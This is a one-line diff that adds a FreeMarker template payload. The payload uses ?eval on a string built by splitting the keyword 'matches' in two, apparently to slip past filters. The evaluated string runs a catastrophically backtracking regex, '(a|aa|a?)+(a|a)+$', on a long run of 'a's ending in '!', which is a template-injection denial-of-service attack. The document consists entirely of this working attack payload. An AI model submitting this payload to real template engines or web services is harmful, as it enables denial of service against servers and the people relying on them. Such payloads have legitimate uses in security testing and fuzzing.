@@ -1,0 +1,1 @@
+<#assign p = "'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!'?mat" + "ches('(a|aa|a?)+(a|a)+$')?string">${p?eval}
